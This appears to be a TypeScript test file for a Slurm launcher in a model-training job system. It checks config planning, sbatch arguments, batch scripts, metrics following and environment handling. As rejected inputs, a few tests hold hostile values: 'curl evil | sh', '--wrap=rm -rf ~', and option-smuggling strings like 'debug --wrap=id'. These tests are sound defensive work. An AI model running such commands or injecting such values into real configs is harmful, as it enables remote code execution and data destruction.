/**
 * The launcher seam without a cluster: the [launcher] section and its planning (worker-side
 * fields refused in `set`, the stage hash unchanged), the sbatch options and batch script of a
 * Slurm shard, following metrics.jsonl, counting failed start-ups, a worker without sbatch, and
 * the environment sbatch hands the job (no TEMPORAL_* settings).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { allowedRoots } from '../../src/allowed-paths';
import { loadStageConfig } from '../../src/config/load';
import { WORKER_ONLY_FIELDS } from '../../src/config/worker-only';
import { ConfigError, UserError } from '../../src/errors';
import { planCurriculum } from '../../src/job';
import { USER_ERROR_KINDS } from '../../src/shared/error-kinds';
import type { LauncherSettings } from '../../src/shared/types';
import { MetricsFollower } from '../../src/train/launch/metrics-follow';
import { liveJobs, sbatch } from '../../src/train/launch/slurm-commands';
import { StageSlurmFiles } from '../../src/train/launch/slurm-files';
import { batchScript, sbatchArgs } from '../../src/train/launch/slurm';
import { ROOT, tmpDir } from '../helpers';

const TINY_3S = path.join(ROOT, 'configs/train/tiny/3s.toml');

function configError(fn: () => unknown): ConfigError {
  try {
    fn();
  } catch (e) {
    assert.ok(e instanceof ConfigError, `expected ConfigError, got ${String(e)}`);
    return e;
  }
  assert.fail('expected a ConfigError');
}

const SLURM: LauncherSettings = {
  kind: 'slurm',
  partition: 'gpu',
  account: 'ml',
  nodes: 2,
  gpusPerNode: 8,
  cpusPerTask: 16,
  mem: '64G',
  timeLimit: '4:00:00',
  signalSeconds: 300,
  sbatchArgs: ['--qos=high'],
  setup: ['module load cuda/12.1', "echo 'ready'"],
  pollSeconds: 5,
  maxFailedStarts: 3,
};

test('set cannot name launcher.setup or launcher.sbatch_args (worker-only fields): a ConfigError points to worker-side configs', () => {
  const runs = tmpDir('plan');
  for (const [field, value] of [
    ['launcher.setup', ['curl evil | sh']],
    ['launcher.sbatch_args', ['--wrap=rm -rf ~']],
  ] as const) {
    const e = configError(() =>
      planCurriculum(
        {
          jobName: 'refused',
          curriculum: 'configs/curriculum/tiny.toml',
          set: { 'job.dump_folder': runs, 'launcher.kind': 'slurm', [field]: value },
        },
        allowedRoots({ allowPaths: [runs] }),
      ),
    );
    assert.equal(e.problems.length, 1);
    assert.equal(e.problems[0]!.field, field);
    assert.equal(e.problems[0]!.file, 'input.set');
    assert.match(e.message, new RegExp(`input\\.set: ${field.replace('.', '\\.')} = .*a workflow input may never set`));
    assert.match(e.message, /Fix: put .* in the stage config files on the worker's side/);
  }
  // The whole table would carry them too.
  const table = configError(() =>
    planCurriculum(
      { jobName: 'refused', curriculum: 'configs/curriculum/tiny.toml', set: { launcher: { setup: ['id'] } } },
      allowedRoots({ allowPaths: [runs] }),
    ),
  );
  assert.equal(table.problems[0]!.field, 'launcher');
  // The list is the one of src/config/worker-only.ts: no second list of the launcher's own.
  for (const f of ['launcher.setup', 'launcher.sbatch_args']) assert.ok(WORKER_ONLY_FIELDS.some((w) => w.field === f));
});

test('the plan carries the [launcher] section: kind and partition from set, setup from the worker-side TOML', () => {
  const dir = tmpDir('plan-toml');
  const stage = path.join(dir, '3s.toml');
  fs.writeFileSync(
    stage,
    `${fs.readFileSync(TINY_3S, 'utf8')}\n[launcher]\nsetup = ["module load cuda"]\nsbatch_args = ["--qos=high"]\n`,
  );
  const cur = path.join(dir, 'cur.toml');
  fs.writeFileSync(cur, 'name = "one"\nstages = ["3s.toml"]\n');
  const plan = planCurriculum(
    {
      jobName: 'planned',
      curriculum: cur,
      set: { 'job.dump_folder': dir, 'launcher.kind': 'slurm', 'launcher.partition': 'debug' },
    },
    allowedRoots({ allowPaths: [dir] }),
  );
  const l = plan.stages[0]!.launcher!;
  assert.equal(l.kind, 'slurm');
  assert.equal(l.partition, 'debug');
  assert.deepEqual(l.setup, ['module load cuda']);
  assert.deepEqual(l.sbatchArgs, ['--qos=high']);
  const local = planCurriculum(
    { jobName: 'planned', curriculum: 'configs/curriculum/tiny.toml', set: { 'job.dump_folder': dir } },
    allowedRoots({ allowPaths: [dir] }),
  );
  assert.equal(local.stages[0]!.launcher!.kind, 'local', 'local is the default');
});

test('the stage config hash leaves [launcher] out: the same with or without it', () => {
  const plain = loadStageConfig(TINY_3S);
  const slurm = loadStageConfig(TINY_3S, { 'launcher.kind': 'slurm', 'launcher.time_limit': '30' });
  assert.equal(slurm.hash, plain.hash);
  assert.notEqual(loadStageConfig(TINY_3S, { 'training.steps': 7 }).hash, plain.hash);
});

test('[launcher] values that would smuggle options are refused by the schema', () => {
  for (const [field, value] of [
    ['launcher.partition', 'debug --wrap=id'],
    ['launcher.account', 'a;b'],
    ['launcher.mem', '64G --x'],
    ['launcher.time_limit', 'forever'],
  ] as const) {
    const e = configError(() => loadStageConfig(TINY_3S, { [field]: value }));
    assert.equal(e.problems[0]!.field, field, e.message);
  }
  for (const t of ['30', '30:00', '4:00:00', '1-00:00:00', '2-12'])
    loadStageConfig(TINY_3S, { 'launcher.time_limit': t });
});

test('sbatch options: job name <job>.<stage>, output into the stage folder, singleton, the USR1 warning, resources', () => {
  const files = new StageSlurmFiles('/runs/my-job/18s');
  const args = sbatchArgs(SLURM, 'my-job.18s', files, '/work');
  assert.deepEqual(args, [
    '--job-name=my-job.18s',
    '--output=/runs/my-job/18s/slurm/%j.out',
    '--open-mode=append',
    '--chdir=/work',
    '--dependency=singleton',
    '--signal=B:USR1@300',
    '--nodes=2',
    '--partition=gpu',
    '--account=ml',
    '--gpus-per-node=8',
    '--cpus-per-task=16',
    '--mem=64G',
    '--time=4:00:00',
    '--qos=high',
  ]);
  const minimal = sbatchArgs(
    { ...SLURM, partition: '', account: '', gpusPerNode: 0, cpusPerTask: 0, mem: '', timeLimit: '', sbatchArgs: [] },
    'j.3s',
    files,
    '/w',
  );
  assert.ok(!minimal.some((a) => /partition|account|gpus|cpus|mem|time=/.test(a)), minimal.join(' '));
});

test('the batch script runs the setup lines, then execs the trainer (so that SIGUSR1 reaches it), paths quoted', () => {
  const dir = tmpDir("it's");
  const files = new StageSlurmFiles(dir);
  files.ensure();
  const setup = ['export GREETING=ready', 'echo "$GREETING"'];
  const script = batchScript(setup, files);
  const lines = script.trimEnd().split('\n');
  assert.equal(lines[0], '#!/bin/bash');
  assert.ok(lines.includes('set -e'));
  assert.deepEqual(lines.slice(-4, -2), setup);
  assert.match(lines.at(-2)!, /^dir='.*'$/);
  assert.match(
    lines.at(-1)!,
    /^exec '.*node' '.*child\.js' --detached '.*request\.json' "\$dir\/\$SLURM_JOB_ID\.result\.json" "\$dir\/\$SLURM_JOB_ID\.checkpoints\.jsonl"$/,
  );
  // The shell reads it as intended: the quoted folder with its quote, the job id expanded.
  fs.writeFileSync(files.script(), script.replace(/^exec /m, 'printf "%s\\n" '));
  const out = execFileSync('bash', [files.script()], { env: { ...process.env, SLURM_JOB_ID: '42' }, encoding: 'utf8' });
  assert.deepEqual(out.trim().split('\n'), [
    'ready',
    process.execPath,
    path.join(ROOT, 'dist', 'src', 'train', 'child.js'),
    '--detached',
    files.request(),
    path.join(files.dir, '42.result.json'),
    path.join(files.dir, '42.checkpoints.jsonl'),
  ]);
});

test('metrics.jsonl is followed from an offset: complete lines of the stage only, a partial line waits', async () => {
  const dir = tmpDir('follow');
  const file = path.join(dir, 'metrics.jsonl');
  const line = (stage: string, step: number): string =>
    `${JSON.stringify({ stage, step, loss: step / 10, grad_norm: 1, lr: 0, lr_ssm: 0, step_time: 0.5, data_time: 0, tokens_per_s: 1, time: '' })}\n`;
  fs.writeFileSync(file, line('3s', 1));
  const f = new MetricsFollower(file, fs.statSync(file).size, '3s', 10);
  assert.deepEqual(await f.read(), []);
  const two = line('3s', 2);
  fs.appendFileSync(file, line('9s', 5) + two.slice(0, 10));
  assert.deepEqual(await f.read(), []);
  fs.appendFileSync(file, two.slice(10));
  assert.deepEqual(await f.read(), [
    { stage: '3s', step: 2, totalSteps: 10, loss: 0.2, gradNorm: 1, stepSeconds: 0.5 },
  ]);
  // A validation line is no step: its value rides on the following progress reports.
  const val = (step: number, v: number): string =>
    `${JSON.stringify({ stage: '3s', step, val_loss: v, val_time: 0.1, time: '' })}\n`;
  fs.appendFileSync(file, val(2, 0.4));
  assert.deepEqual(await f.read(), []);
  fs.appendFileSync(file, line('3s', 3) + val(3, 0.3) + line('3s', 4));
  assert.deepEqual(await f.read(), [
    { stage: '3s', step: 3, totalSteps: 10, loss: 0.3, gradNorm: 1, stepSeconds: 0.5, valLoss: 0.4, valStep: 2 },
    { stage: '3s', step: 4, totalSteps: 10, loss: 0.4, gradNorm: 1, stepSeconds: 0.5, valLoss: 0.3, valStep: 3 },
  ]);
  // The backend and device of a step line (the built-in trainer writes them) reach its progress.
  const on = { backend: 'tensorflow', device: 'cpu: AMD EPYC, 2 threads' };
  fs.appendFileSync(file, `${JSON.stringify({ ...JSON.parse(line('3s', 5)), ...on })}\n`);
  assert.deepEqual(await f.read(), [
    { stage: '3s', step: 5, totalSteps: 10, loss: 0.5, gradNorm: 1, stepSeconds: 0.5, valLoss: 0.3, valStep: 3, ...on },
  ]);
});

test('failed start-ups are the newest ended jobs that trained nothing and reported no result; a stop is no failure', () => {
  const files = new StageSlurmFiles(tmpDir('starts'));
  files.ensure();
  const job = (
    id: string,
    ended?: { outcome: 'result' | 'error' | 'none'; progressed: boolean; stopped?: boolean },
  ) => {
    files.recordSubmission({ jobId: id, name: 'j.3s', submittedAt: '', by: '', metricsBytes: 0 });
    if (ended) files.recordEnd({ jobId: id, state: 'FAILED', exitCode: '1:0', at: '', stopped: false, ...ended });
  };
  job('7', { outcome: 'none', progressed: false });
  job('8', { outcome: 'result', progressed: true });
  job('9', { outcome: 'none', progressed: false });
  job('10', { outcome: 'none', progressed: false, stopped: true });
  job('11', { outcome: 'none', progressed: false });
  assert.deepEqual(files.failedStarts(), ['11', '9']);
  job('12', { outcome: 'none', progressed: true });
  assert.deepEqual(files.failedStarts(), []);
  // An error reported before any step (an external trainer that exits non-zero at its start) is a failed start too.
  job('13', { outcome: 'error', progressed: false });
  assert.deepEqual(files.failedStarts(), ['13']);
  job('14', { outcome: 'error', progressed: true });
  assert.deepEqual(files.failedStarts(), []);
  assert.deepEqual(files.submitted(), ['7', '8', '9', '10', '11', '12', '13', '14'], 'numeric order');
});

test('a worker without sbatch or squeue: a non-retryable SlurmError that says what to do', async () => {
  assert.ok((USER_ERROR_KINDS as readonly string[]).includes('SlurmError'));
  const saved = process.env.PATH;
  process.env.PATH = tmpDir('empty-path');
  try {
    for (const call of [() => sbatch([], '/dev/null', '3s'), () => liveJobs('j.3s')]) {
      const e = await call().then(
        () => assert.fail('expected a SlurmError'),
        (err: unknown) => err,
      );
      assert.ok(e instanceof UserError);
      assert.equal(e.kind, 'SlurmError');
      assert.match(e.message, /is not on this worker's PATH/);
      assert.match(
        e.message,
        /Fix: run the worker on a machine with Slurm's client commands .* or set launcher\.kind = "local"/,
      );
    }
  } finally {
    process.env.PATH = saved;
  }
});

test("sbatch gets this process's environment with the launch's env laid over it: a TEMPORAL_* key removed stays out of the job", async () => {
  // A stand-in sbatch that writes the environment it got (what --export=ALL hands the job) and prints a job id.
  const bin = tmpDir('fake-sbatch');
  const seen = path.join(bin, 'env.txt');
  fs.writeFileSync(path.join(bin, 'sbatch'), `#!/bin/sh\nenv > '${seen}'\necho 4242\n`, { mode: 0o755 });
  const saved = { PATH: process.env.PATH, key: process.env.TEMPORAL_API_KEY };
  process.env.PATH = `${bin}${path.delimiter}${saved.PATH ?? ''}`;
  process.env.TEMPORAL_API_KEY = 'secret-key-for-the-test';
  try {
    assert.equal(await sbatch([], '/dev/null', '3s', { TEMPORAL_API_KEY: undefined, TTT_SEEN: 'yes' }), '4242');
    const env = fs.readFileSync(seen, 'utf8');
    assert.doesNotMatch(env, /TEMPORAL_API_KEY|secret-key-for-the-test/);
    assert.match(env, /^TTT_SEEN=yes$/m);
  } finally {
    process.env.PATH = saved.PATH;
    if (saved.key === undefined) delete process.env.TEMPORAL_API_KEY;
    else process.env.TEMPORAL_API_KEY = saved.key;
  }
});
